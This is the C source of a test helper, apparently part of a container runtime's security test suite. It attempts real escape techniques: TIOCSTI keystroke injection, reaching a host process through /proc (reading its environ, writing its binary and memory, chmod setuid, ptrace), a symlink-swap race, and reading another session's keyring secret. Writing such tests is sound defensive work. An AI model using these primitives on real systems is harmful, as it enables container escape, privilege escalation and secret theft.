/*
 * The hostile process the security tests run inside a container (built with `gcc -static`, so it
 * needs nothing from the image). Each subcommand tries one class of escape for real and prints
 * one line per attempt: "<attempt> ok" or "<attempt> <ERRNO>", plus what it got hold of.
 *
 *   attack tiocsti TEXT   push TEXT into the input of fds 0-2 and of /dev/tty (TIOCSTI)
 *   attack proc PID [FD..] reach process PID through /proc: exe (open, chmod, write), environ,
 *                         mem (read and write back), cwd, root, fd 0 and each FD given (opened
 *                         for writing: "fd-write-FD"); and ptrace it
 *   attack fds            what fds 0-2 are, and the session / controlling terminal
 *   attack inspect PATH.. what each path is: "PATH char MAJ:MIN", "PATH file <first line>", ...
 *   attack swap DIR NAME TARGET...  forever: replace DIR/NAME by a symlink to each TARGET in
 *                         turn, atomically (rename), as fast as it can
 *   attack keyring        the session keyring this process holds: "session-keyring SERIAL
 *                         DESCRIPTION" (the keys it can use without naming them)
 *   attack keyring-reach RING KEY NAME  reach someone else's session keyring RING (named NAME)
 *                         and the "user" key KEY in it: describe, list, read, link into ours,
 *                         search (possession through the link), /proc/keys, join by name
 *   attack session NAME SECRET CMD...  (host side) join a new session keyring NAME ("-": an
 *                         anonymous one, as pam_keyinit makes), add the user key "gantry-secret"
 *                         = SECRET, then exec CMD with "{ring}" and "{key}" replaced by serials
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static void result(const char *what, int rc) {
  if (rc < 0)
    printf("%s %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "EUNKNOWN");
  else
    printf("%s ok\n", what);
  fflush(stdout);
}

static int inject(int fd, const char *text) {
  for (const char *p = text; *p; p++)
    if (ioctl(fd, TIOCSTI, p) < 0)
      return -1;
  return 0;
}

static int tiocsti(const char *text) {
  char name[16];
  for (int fd = 0; fd < 3; fd++) {
    snprintf(name, sizeof name, "fd%d", fd);
    result(name, inject(fd, text));
  }
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
  if (tty < 0) {
    result("devtty", -1);
  } else {
    result("devtty", inject(tty, text));
    close(tty);
  }
  return 0;
}

static int fds(void) {
  for (int fd = 0; fd < 3; fd++) {
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = '\0';
    printf("fd%d %s\n", fd, n < 0 ? "closed" : target);
  }
  printf("sid %d pid %d\n", (int)getsid(0), (int)getpid());
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
  result("devtty", tty);
  return 0;
}

static int proc(const char *pid, int extra, char **fds) {
  char path[256], buf[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t n = readlink(path, buf, sizeof buf - 1);
  result("exe-readlink", (int)n);
  if (n >= 0) {
    buf[n] = '\0';
    printf("exe-target %s\n", buf);
  }
  int exe = open(path, O_PATH | O_CLOEXEC);
  result("exe-open-path", exe);
  int rd = open(path, O_RDONLY | O_CLOEXEC);
  result("exe-open-read", rd);
  if (rd >= 0)
    close(rd);
  if (exe >= 0) {
    /* The CVE-2019-5736 follow-ups: a handle on the binary, then make it setuid root or change it. */
    char via[64];
    snprintf(via, sizeof via, "/proc/self/fd/%d", exe);
    result("exe-chmod", chmod(via, 04777));
    int wr = open(via, O_WRONLY | O_APPEND | O_CLOEXEC);
    result("exe-open-write", wr);
    if (wr >= 0) {
      result("exe-write", (int)write(wr, "X", 1));
      close(wr);
    }
    close(exe);
  }
  snprintf(path, sizeof path, "/proc/%s/environ", pid);
  int env = open(path, O_RDONLY | O_CLOEXEC);
  result("environ-open", env);
  if (env >= 0) {
    n = read(env, buf, sizeof buf - 1);
    result("environ-read", (int)n);
    for (ssize_t i = 0; i < n; i++)
      if (buf[i] == '\0')
        buf[i] = '\n';
    if (n > 0) {
      buf[n] = '\0';
      printf("environ-data-begin\n%s\nenviron-data-end\n", buf);
    }
    close(env);
  }
  snprintf(path, sizeof path, "/proc/%s/mem", pid);
  int mem = open(path, O_RDWR | O_CLOEXEC);
  result("mem-open", mem);
  if (mem >= 0) {
    /* A real write that changes nothing: read a word of the process's stack and write it back. */
    char stat_path[256], stat[4096];
    snprintf(stat_path, sizeof stat_path, "/proc/%s/stat", pid);
    int sfd = open(stat_path, O_RDONLY);
    ssize_t len = sfd < 0 ? -1 : read(sfd, stat, sizeof stat - 1);
    unsigned long long stack = 0;
    if (len > 0) {
      stat[len] = '\0';
      char *field = strrchr(stat, ')');
      for (int i = 2; field && i < 28; i++)
        field = strchr(field + 1, ' ');
      if (field)
        stack = strtoull(field + 1, NULL, 10);
    }
    char word[8];
    if (stack && pread(mem, word, sizeof word, (off_t)(stack - 64)) == (ssize_t)sizeof word)
      result("mem-write", (int)pwrite(mem, word, sizeof word, (off_t)(stack - 64)));
    else
      result("mem-write", -1);
    close(mem);
  }
  snprintf(path, sizeof path, "/proc/%s/cwd", pid);
  result("cwd-readlink", (int)readlink(path, buf, sizeof buf));
  snprintf(path, sizeof path, "/proc/%s/root/", pid);
  result("root-open", open(path, O_PATH | O_CLOEXEC));
  snprintf(path, sizeof path, "/proc/%s/fd/0", pid);
  result("fd-open", open(path, O_PATH | O_CLOEXEC));
  for (int i = 0; i < extra; i++) {
    /* A descriptor the process holds for writing (a security module's attribute, say). */
    char name[64];
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, fds[i]);
    snprintf(name, sizeof name, "fd-write-%s", fds[i]);
    result(name, open(path, O_WRONLY | O_CLOEXEC));
  }
  long traced = ptrace(PTRACE_SEIZE, atoi(pid), 0, 0);
  result("ptrace", (int)traced);
  if (traced == 0)
    ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
  return 0;
}

static int inspect(int count, char **paths) {
  for (int i = 0; i < count; i++) {
    struct stat st;
    if (lstat(paths[i], &st) < 0) {
      printf("%s %s\n", paths[i], strerrorname_np(errno));
    } else if (S_ISCHR(st.st_mode)) {
      printf("%s char %u:%u\n", paths[i], major(st.st_rdev), minor(st.st_rdev));
    } else if (S_ISREG(st.st_mode)) {
      char line[256] = "";
      FILE *file = fopen(paths[i], "r");
      if (file && fgets(line, sizeof line, file))
        line[strcspn(line, "\n")] = '\0';
      if (file)
        fclose(file);
      printf("%s file %s\n", paths[i], line);
    } else {
      printf("%s %s\n", paths[i], S_ISLNK(st.st_mode) ? "symlink" : S_ISDIR(st.st_mode) ? "dir" : "other");
    }
  }
  return 0;
}

static void swap(const char *dir, const char *name, int count, char **targets) __attribute__((noreturn));
static void swap(const char *dir, const char *name, int count, char **targets) {
  char temp[4096], final[4096];
  snprintf(temp, sizeof temp, "%s/.%s.swap", dir, name);
  snprintf(final, sizeof final, "%s/%s", dir, name);
  for (unsigned long i = 0;; i++) {
    unlink(temp);
    if (symlink(targets[i % (unsigned)count], temp) == 0)
      rename(temp, final);
  }
}

/* keyctl(2) through syscall(2): KEYCTL_GET_KEYRING_ID of KEY_SPEC_SESSION_KEYRING (-3), without
 * making one, then KEYCTL_DESCRIBE ("type;uid;gid;perm;description"). */
static int keyring(void) {
  long serial = syscall(SYS_keyctl, 0, -3L, 0L, 0L, 0L);
  if (serial < 0) {
    result("session-keyring", -1);
    return 0;
  }
  char description[512] = "";
  long length = syscall(SYS_keyctl, 6, serial, description, sizeof description - 1, 0L);
  const char *name = length > 0 && strrchr(description, ';') ? strrchr(description, ';') + 1 : "?";
  printf("session-keyring %ld %s\n", serial, name);
  return 0;
}

enum {
  GET_KEYRING_ID = 0,
  JOIN_SESSION_KEYRING = 1,
  DESCRIBE = 6,
  LINK = 8,
  SEARCH = 10,
  READ = 11,
};
#define SESSION_KEYRING -3L

/* A key's payload as "<what> ok PAYLOAD", or the errno. */
static void read_key(const char *what, long key) {
  char payload[256];
  long length = syscall(SYS_keyctl, READ, key, payload, sizeof payload - 1, 0L);
  if (length < 0) {
    result(what, -1);
    return;
  }
  payload[length < (long)sizeof payload - 1 ? length : (long)sizeof payload - 1] = 0;
  printf("%s ok %s\n", what, payload);
  fflush(stdout);
}

static int keyring_reach(const char *ring_arg, const char *key_arg, const char *name) {
  long ring = strtol(ring_arg, NULL, 10), key = strtol(key_arg, NULL, 10);
  char buf[512];
  printf("own-keyring %ld\n", syscall(SYS_keyctl, GET_KEYRING_ID, SESSION_KEYRING, 0L, 0L, 0L));
  result("describe-keyring", (int)syscall(SYS_keyctl, DESCRIBE, ring, buf, sizeof buf, 0L));
  result("list-keyring", (int)syscall(SYS_keyctl, READ, ring, buf, sizeof buf, 0L));
  read_key("read-key", key);
  result("link-keyring", (int)syscall(SYS_keyctl, LINK, ring, SESSION_KEYRING, 0L, 0L));
  result("link-key", (int)syscall(SYS_keyctl, LINK, key, SESSION_KEYRING, 0L, 0L));
  /* Linked into our own keyring, the key would be possessed: search finds it, read gives it. */
  long found = syscall(SYS_keyctl, SEARCH, SESSION_KEYRING, "user", "gantry-secret", 0L, 0L);
  if (found < 0)
    result("search-key", -1);
  else
    read_key("search-key", found);
  /* /proc/keys lists what we may view: is the other keyring (its serial in hex) among it? */
  FILE *keys = fopen("/proc/keys", "r");
  if (!keys) {
    result("proc-keys", -1);
  } else {
    char hex[32], line[512];
    int seen = 0;
    snprintf(hex, sizeof hex, "%08lx ", ring);
    while (fgets(line, sizeof line, keys))
      if (!strncmp(line, hex, strlen(hex)))
        seen = 1;
    fclose(keys);
    printf("proc-keys %s\n", seen ? "seen" : "unseen");
  }
  /* Last, as it replaces our session keyring: joining by name gives that keyring only to its
   * owner with search permission; anyone else gets a new one of that name. */
  long joined = syscall(SYS_keyctl, JOIN_SESSION_KEYRING, name, 0L, 0L, 0L);
  if (joined < 0)
    result("join-keyring", -1);
  else
    printf("join-keyring %s %ld\n", joined == ring ? "same" : "new", joined);
  found = syscall(SYS_keyctl, SEARCH, SESSION_KEYRING, "user", "gantry-secret", 0L, 0L);
  if (found < 0)
    result("joined-search-key", -1);
  else
    read_key("joined-search-key", found);
  return 0;
}

static int session(const char *name, const char *secret, char **argv) {
  long ring = syscall(SYS_keyctl, JOIN_SESSION_KEYRING, strcmp(name, "-") ? name : NULL, 0L, 0L, 0L);
  if (ring < 0) {
    perror("keyctl join");
    return 1;
  }
  long key = syscall(SYS_add_key, "user", "gantry-secret", secret, strlen(secret), SESSION_KEYRING);
  if (key < 0) {
    perror("add_key");
    return 1;
  }
  char ring_text[24], key_text[24];
  snprintf(ring_text, sizeof ring_text, "%ld", ring);
  snprintf(key_text, sizeof key_text, "%ld", key);
  for (char **arg = argv; *arg; arg++) {
    if (!strcmp(*arg, "{ring}"))
      *arg = ring_text;
    else if (!strcmp(*arg, "{key}"))
      *arg = key_text;
  }
  execvp(argv[0], argv);
  perror("execvp");
  return 127;
}

int main(int argc, char **argv) {
  if (argc >= 3 && !strcmp(argv[1], "inspect"))
    return inspect(argc - 2, argv + 2);
  if (argc >= 5 && !strcmp(argv[1], "swap"))
    swap(argv[2], argv[3], argc - 4, argv + 4);
  if (argc == 3 && !strcmp(argv[1], "tiocsti")) {
    /* "\n" in the argument stands for a newline, so the injected text completes a line. */
    char *text = argv[2];
    for (char *p = text; (p = strstr(p, "\\n"));) {
      *p = '\n';
      memmove(p + 1, p + 2, strlen(p + 2) + 1);
    }
    return tiocsti(text);
  }
  if (argc >= 3 && !strcmp(argv[1], "proc"))
    return proc(argv[2], argc - 3, argv + 3);
  if (argc == 2 && !strcmp(argv[1], "fds"))
    return fds();
  if (argc == 2 && !strcmp(argv[1], "keyring"))
    return keyring();
  if (argc == 5 && !strcmp(argv[1], "keyring-reach"))
    return keyring_reach(argv[2], argv[3], argv[4]);
  if (argc >= 5 && !strcmp(argv[1], "session"))
    return session(argv[2], argv[3], argv + 4);
  fprintf(stderr, "usage: attack tiocsti TEXT | proc PID [FD...] | fds | keyring | keyring-reach RING KEY NAME | "
                  "session NAME SECRET CMD... | inspect PATH... | swap DIR NAME TARGET...\n");
  return 2;
}
